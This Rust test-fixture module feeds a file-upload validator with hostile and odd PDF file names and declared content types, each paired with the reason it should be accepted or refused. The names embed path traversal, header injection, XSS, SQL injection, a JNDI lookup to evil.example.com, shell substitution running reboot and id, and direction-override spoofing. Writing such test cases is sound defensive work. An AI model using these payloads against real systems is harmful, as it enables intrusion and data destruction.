//! Names that lie, break paths or headers, or are only unusual. The content is a good one.

use super::{
    documents::pdf,
    images::png,
    sample::{FileSample, content_type},
};

/// Names of PDF files, and what is odd about them.
const ACCEPTED: &[(&str, &str)] = &[
    ("../../etc/passwd.pdf", "a path upwards"),
    ("..\\..\\windows\\win.pdf", "a path upwards on Windows"),
    ("/etc/cron.d/evil.pdf", "an absolute path"),
    ("C:\\Users\\a\\report.pdf", "an absolute path on Windows"),
    ("\\\\server\\share\\a.pdf", "a path of a server"),
    ("evil.html.pdf", "two extensions, the last one counts"),
    ("evil.php%00.pdf", "an encoded NUL is not decoded"),
    ("evil.html\0.pdf", "a NUL before the extension"),
    ("a\r\nSet-Cookie: s=1\r\n\r\n<script>.pdf", "line ends that would end a header"),
    ("a\"; filename=\"evil.html\".pdf", "quotes that would end a parameter"),
    ("a\\\".pdf", "an escaped quote"),
    ("fdp.\u{202e}lmth.pdf", "an override of direction, which shows another extension"),
    ("\u{2066}a\u{2069}\u{200b}.pdf", "isolates and spaces without width"),
    ("<img src=x onerror=alert(1)>.pdf", "markup"),
    ("CON.pdf", "a device on Windows"),
    ("lpt1.tar.pdf", "a device on Windows with two extensions"),
    (".pdf", "no stem"),
    ("...pdf", "dots as stem"),
    ("report.pdf.", "Windows drops the last dot"),
    ("report.pdf ", "Windows drops the last space"),
    ("REPORT.PDF", "upper case"),
    ("财务报告（最终版）.pdf", "Chinese"),
    ("😀👨‍👩‍👧.pdf", "emoji, joined ones too"),
    ("ﬁle\u{301}.pdf", "a ligature and a combining accent"),
    ("'; DROP TABLE files; --.pdf", "SQL"),
    ("${jndi:ldap://evil.example.com/a}.pdf", "a lookup of a logger"),
    ("$(reboot)`id`|;&.pdf", "a shell"),
    ("-rf.pdf", "an option of a program"),
    ("%2e%2e%2fa.pdf", "an encoded path is not decoded"),
];

/// Names of no PDF files.
const REFUSED: &[(&str, &str)] = &[
    ("evil.pdf.html", "the last extension counts"),
    ("evil.pdf\0.html", "a NUL does not end a name"),
    ("evil.pdf%00.html", "an encoded NUL does not end a name"),
    ("evil.html", "HTML"),
    ("evil.svg", "SVG"),
    ("evil.xhtml", "XHTML"),
    ("evil.js", "a script"),
    ("evil.exe", "a program"),
    ("evil.xlsm", "a spreadsheet with macros"),
    ("evil\u{202e}fdp.html", "an override of direction"),
    ("evil.p\u{202e}df.htm", "an override of direction inside of the extension"),
    ("report", "no extension"),
    ("report．pdf", "a wide dot is no dot"),
    ("report.рdf", "a Cyrillic letter"),
    ("report.pdf/", "a folder"),
    ("report.pdf::$DATA", "a stream of Windows"),
    (".", "a dot"),
    ("..", "two dots"),
    ("......", "only dots"),
    ("", "no name"),
    ("\u{202e}\u{200b}", "nothing that is seen"),
    ("NUL", "a device on Windows without extension"),
];

pub(super) fn hostile() -> Vec<FileSample> {
    let long = "n".repeat(4096);
    let mut samples = Vec::new();
    for (name, why) in ACCEPTED {
        samples.push(FileSample { name: (*name).to_owned(), ..FileSample::good("a.pdf", pdf("1.4"), why) });
    }
    for (name, why) in REFUSED {
        samples.push(FileSample { name: (*name).to_owned(), ..FileSample::bad("a.pdf", pdf("1.4"), why) });
    }
    samples.push(FileSample::good(&format!("{long}.pdf"), pdf("1.4"), "4 KiB of stem"));
    samples.push(FileSample::good(&format!("{}.pdf", "报".repeat(1400)), pdf("1.4"), "4 KiB of Chinese"));
    let long = FileSample {
        name: format!("a.{long}"),
        ..FileSample::bad("a.pdf", pdf("1.4"), "4 KiB of extension")
    };
    samples.extend([long, FileSample::good("photo.PnG", png(1, 1), "mixed case")]);
    samples.extend(declared());
    samples
}

/// Declared types as clients write them.
fn declared() -> Vec<FileSample> {
    let sample = |name: &str, declared: Option<&str>, accepted: bool, why: &str| FileSample {
        name: name.to_owned(),
        declared: declared.map(str::to_owned),
        content: if name.ends_with("pdf") { pdf("1.4") } else { b"a,b\n1,2\n".to_vec() },
        accepted: accepted.then(|| content_type(name)),
        why: why.to_owned(),
    };
    vec![
        sample("a.pdf", None, true, "nothing is declared"),
        sample("a.pdf", Some(""), true, "nothing is declared in words"),
        sample("a.pdf", Some("application/octet-stream"), true, "bytes"),
        sample("a.pdf", Some("Application/PDF; name=\"a.pdf\""), true, "case and parameters do not matter"),
        sample("a.csv", Some("application/vnd.ms-excel"), true, "what Windows with Excel declares"),
        sample("a.csv", Some("text/csv;charset=gb18030"), true, "a character set"),
        sample("a.txt", Some("application/vnd.ms-excel"), false, "only a .csv may be declared so"),
        sample("a.pdf", Some("text/html"), false, "HTML is declared"),
        sample("a.pdf", Some("application/pdf, text/html"), false, "two types are declared"),
        sample("a.txt", Some("text/html"), false, "HTML is declared"),
        sample("a.txt", Some("multipart/form-data; boundary=x"), false, "another part is declared"),
        sample("a.txt", Some(&"x/".repeat(2048)), false, "4 KiB are declared"),
        sample("a.txt", Some("text/plain\0text/html"), false, "a NUL is declared"),
    ]
}
